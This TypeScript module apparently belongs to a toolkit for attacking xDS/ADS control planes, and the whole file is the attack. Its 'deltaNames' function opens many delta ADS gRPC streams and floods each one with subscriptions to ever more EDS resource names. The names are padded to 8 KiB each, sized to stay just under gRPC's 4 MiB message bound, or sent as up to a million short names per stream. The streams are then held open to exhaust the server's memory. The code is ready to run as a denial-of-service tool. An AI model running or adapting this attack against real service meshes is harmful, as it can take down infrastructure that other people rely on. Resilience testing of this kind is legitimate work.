/**
 * Delta ADS streams that subscribe to ever more EDS names, request after request: long names (8 KiB, 450 a
 * request, just under gRPC's 4 MiB message bound) or many short ones (up to a million a stream).
 *
 * @module
 */
import { TYPE_URL } from "../../proto/type_urls.ts";
import { AdsStream, attackerNode } from "./ads_stream.ts";

/** Sizes of the attack. */
export interface DeltaNamesSizes {
  readonly streams: number;
  readonly nameBytes: number;
  readonly namesPerRequest: number;
  readonly requests: number;
  /** Seconds to keep the streams open after the last request. */
  readonly holdS: number;
}

/** Runs the attack; resolves with what it sent and saw. */
export async function deltaNames(grpcAddr: string, sizes: DeltaNamesSizes): Promise<Record<string, unknown>> {
  const streams = Array.from({ length: sizes.streams }, () => new AdsStream(grpcAddr, true));
  const sent = await Promise.all(streams.map(async (stream, s) => {
    let names = 0;
    for (let r = 0; r < sizes.requests && stream.ended === undefined; r++) {
      const batch = Array.from({ length: sizes.namesPerRequest }, (_, i) => {
        const name = `outbound|8080||s${s}-r${r}-n${i}.attack.svc.cluster.local`;
        return name.padEnd(sizes.nameBytes, "x");
      });
      await stream.write({
        ...(r === 0 ? { node: attackerNode(s) } : {}),
        type_url: TYPE_URL.endpoint,
        resource_names_subscribe: batch,
      });
      names += batch.length;
    }
    return names;
  }));
  await new Promise((resolve) => setTimeout(resolve, sizes.holdS * 1000));
  const notes = {
    namesSent: sent.reduce((a, b) => a + b, 0),
    responses: streams.reduce((a, s) => a + s.responses, 0),
    streamsEnded: streams.filter((s) => s.ended !== undefined).map((s) => s.ended),
  };
  for (const stream of streams) stream.close();
  return notes;
}
